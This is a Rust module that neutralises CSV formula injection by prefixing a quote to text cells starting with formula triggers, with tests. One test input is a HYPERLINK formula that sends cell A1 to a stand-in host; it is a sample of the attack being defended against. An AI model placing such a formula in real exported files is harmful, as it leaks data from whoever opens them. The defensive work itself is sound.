//! CSV that a spreadsheet cannot run: a cell of text that begins with `=`, `+`, `-`, `@`, a tab
//! or a carriage return is written with a leading `'`, so that Excel, LibreOffice and Sheets
//! show it as text instead of evaluating it as a formula (OWASP's advice on CSV injection).
//! Numbers (`-0.25`, `+3`) are kept as they are. Every CSV the tool writes goes through
//! `Writer`; this module knows nothing of what the columns hold.

use std::borrow::Cow;
use std::io;

/// The first characters that make a spreadsheet read a cell as a formula.
const TRIGGERS: &[u8] = b"=+-@\t\r";

/// A cell as it is safe to write: unchanged, unless it is text beginning with a formula
/// trigger, which gets a leading `'`.
pub fn neutralise(cell: &[u8]) -> Cow<'_, [u8]> {
    match cell.first() {
        Some(first) if TRIGGERS.contains(first) && !is_number(cell) => {
            let mut safe = Vec::with_capacity(cell.len() + 1);
            safe.push(b'\'');
            safe.extend_from_slice(cell);
            Cow::Owned(safe)
        }
        _ => Cow::Borrowed(cell),
    }
}

/// Whether a cell is a plain number (digits, a sign, a point, an exponent), which no
/// spreadsheet turns into a formula.
fn is_number(cell: &[u8]) -> bool {
    cell.iter().all(|b| b.is_ascii_digit() || b".+-eE".contains(b))
        && std::str::from_utf8(cell).is_ok_and(|s| s.parse::<f64>().is_ok_and(f64::is_finite))
}

/// A `csv::Writer` whose every cell goes through `neutralise`.
pub struct Writer<W: io::Write> {
    inner: csv::Writer<W>,
    /// Whether the header of serialised records has been written.
    header_written: bool,
}

impl<W: io::Write> Writer<W> {
    /// A writer with the `csv` crate's defaults (comma, quoting where needed, a header row
    /// for serialised records).
    pub fn from_writer(out: W) -> Self {
        Self { inner: csv::Writer::from_writer(out), header_written: false }
    }

    /// Writes one record, each cell neutralised.
    pub fn write_record<I, T>(&mut self, record: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<[u8]>,
    {
        let cells: Vec<T> = record.into_iter().collect();
        self.inner.write_record(cells.iter().map(|c| neutralise(c.as_ref())))
    }

    /// Writes a serialisable record (with a header row before the first), each cell
    /// neutralised: the record is serialised on its own, read back into cells and written.
    pub fn serialize<S: serde::Serialize>(&mut self, record: S) -> csv::Result<()> {
        let mut scratch =
            csv::WriterBuilder::new().has_headers(!self.header_written).from_writer(Vec::new());
        scratch.serialize(record)?;
        let bytes = scratch.into_inner().map_err(|e| csv::Error::from(e.into_error()))?;
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[..]);
        for row in reader.byte_records() {
            self.write_record(&row?)?;
        }
        self.header_written = true;
        Ok(())
    }

    /// Flushes the underlying writer.
    pub fn flush(&mut self) -> io::Result<()> {
        self.inner.flush()
    }

    /// The underlying writer, flushed.
    pub fn into_inner(self) -> Result<W, csv::IntoInnerError<csv::Writer<W>>> {
        self.inner.into_inner()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(cell: &str, expected: &str) {
        assert_eq!(neutralise(cell.as_bytes()).as_ref(), expected.as_bytes(), "{cell:?}");
    }

    #[test]
    fn formulas_become_text_and_numbers_stay_numbers() {
        check(
            "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
            "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
        );
        check("@SUM(1+1)", "'@SUM(1+1)");
        check("+1+1", "'+1+1");
        check("-2+3", "'-2+3");
        check("\tx", "'\tx");
        check("\rx", "'\rx");
        check("-0.25", "-0.25");
        check("+3", "+3");
        check("1e-5", "1e-5");
        check("Adur District Council", "Adur District Council");
        check("", "");
        check("-", "'-");
        check("-inf", "'-inf");
    }

    #[test]
    fn serialised_records_are_neutralised_below_their_header() {
        #[derive(serde::Serialize)]
        struct Row<'a> {
            name: &'a str,
            score: f64,
        }
        let mut w = Writer::from_writer(Vec::new());
        w.serialize(Row { name: "=1+1", score: -0.5 }).unwrap();
        w.serialize(Row { name: "plain", score: 0.5 }).unwrap();
        let text = String::from_utf8(w.into_inner().unwrap()).unwrap();
        assert_eq!(text, "name,score\n'=1+1,-0.5\nplain,0.5\n");
    }
}
